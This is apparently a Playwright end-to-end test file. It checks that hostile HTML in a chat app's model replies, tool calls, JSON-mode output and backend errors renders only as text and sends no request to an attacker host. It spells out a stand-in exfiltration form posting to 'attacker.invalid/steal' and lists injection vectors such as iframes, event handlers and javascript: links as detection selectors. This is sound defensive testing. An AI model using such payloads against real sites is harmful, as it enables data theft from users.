"""End to end: hostile HTML from replies, tool calls, JSON mode and backend errors renders nothing live in chromium."""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import SharedApp
from tests.e2e.test_compare import send
from tests.e2e.test_hermes_modes import choose_mode
from tests.support.payloads import ATTACKER, PAYLOADS
from tests.support.tgi_protocol import Behavior
from tests.support.tgi_server import renew

pytestmark = pytest.mark.e2e

ALL = "\n\n".join(PAYLOADS)
ATTACKER_HOST = ATTACKER.split("//")[1].split(":")[0]
TOOL_REPLY = "".join(f'<tool_call>\n{{"arguments": {{"q": {json.dumps(p)}}}, "name": {json.dumps(p)}}}\n</tool_call>\n'
                     for p in PAYLOADS[:6])


def watch_requests(page: Page) -> list[str]:
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    return urls


def assert_nothing_live(page: Page, requests: list[str], scope: str = ".pane") -> None:
    """No element a payload brought in (in ``scope``): forms, fields, frames, its buttons, handlers, styles;
    and no request out from the whole page."""
    for selector in ("form", "iframe", "textarea:not([data-testid])", "select", "object", "embed", "meta[http-equiv]",
                     "[placeholder='type here']", "svg[onload]", "img[src*='attacker']"):
        assert page.locator(f"{scope} {selector}").count() == 0, selector
    assert page.locator(f"{scope} button", has_text="Go").count() == 0
    assert page.locator(f"{scope} button", has_text="in code").count() == 0
    for attribute in ("onerror", "onclick", "onload", "ontoggle"):
        assert page.locator(f"{scope} [{attribute}]").count() == 0, attribute
    styled = page.locator(", ".join(f"{scope} [style*='{style}']" for style in ("background:red", "color:red",
                                                                                  "position:fixed")))
    assert styled.count() == 0, [styled.nth(i).evaluate("e => e.parentElement.outerHTML.slice(0, 400)")
                                 for i in range(styled.count())]
    assert page.locator(".pane a[href^='javascript:']").count() == 0
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert not [url for url in requests if ATTACKER_HOST in url]


def failing_turn(page: Page, app: SharedApp) -> list[str]:
    """Pane A replies with every payload, pane B fails with them; the page is open; its requests, watched."""
    reply, failing = app.servers
    reply.behavior = Behavior(text=f"Here:\n\n{ALL}\n\n<PLAN>{PAYLOADS[0]}</PLAN>Done.")
    failing.behavior = Behavior(failure="error_event", fail_after=2, error_type="generation",
                                error_message=" ".join(PAYLOADS))
    requests = watch_requests(page)
    page.goto(app.url)
    return requests


def test_a_backend_error_renders_nothing_live_anywhere_on_the_page(page: Page, alpha_beta: SharedApp):
    requests = failing_turn(page, alpha_beta)
    send(page, "Hello")
    expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error")
    page.wait_for_timeout(1000)
    assert_nothing_live(page, requests, scope="body")


def test_payloads_in_a_reply_a_user_message_and_an_error_render_as_text(page: Page, alpha_beta: SharedApp):
    requests = failing_turn(page, alpha_beta)
    send(page, PAYLOADS[0] + " " + PAYLOADS[2])
    chat = page.locator("#pane-0-chat")
    expect(chat).to_contain_text("Done.")
    expect(page.locator("#pane-1-metrics")).to_contain_text("finish: error")
    expect(chat).to_contain_text('<form action="http://attacker.invalid:9/steal">')  # shown, as text
    expect(page.locator("#pane-1-chat")).to_contain_text("<iframe src=")
    page.wait_for_timeout(500)  # let any image, frame or refresh fire
    assert_nothing_live(page, requests)


def test_payloads_in_tool_calls_and_json_mode_render_as_text(page: Page, alpha_beta: SharedApp):
    renew(*alpha_beta.servers, behavior=Behavior(text=TOOL_REPLY))
    requests = watch_requests(page)
    page.goto(alpha_beta.url)
    choose_mode(page, "Function calling")
    expect(page.locator("#system-prompt textarea").first).to_have_value(re.compile("function calling AI"))
    send(page, "Call the tools")
    expect(page.locator("#pane-0-metrics")).to_contain_text("tool call")
    for title in page.locator("#pane-0-chat button", has_text="invalid").all()[:3]:
        title.click()  # open tool steps: their bodies render too
    assert_nothing_live(page, requests)

    json_reply = json.dumps({"name": PAYLOADS[0], "age": PAYLOADS[2]})
    renew(*alpha_beta.servers, behavior=Behavior(text=json_reply))
    page.goto(alpha_beta.url)  # a new session
    choose_mode(page, "JSON mode")
    expect(page.locator("#system-prompt textarea").first).to_have_value(re.compile("answers in JSON"))
    send(page, "Describe a character")
    expect(page.locator("#pane-0-chat")).to_contain_text("JSON ❌ invalid")
    page.wait_for_timeout(500)
    assert_nothing_live(page, requests)
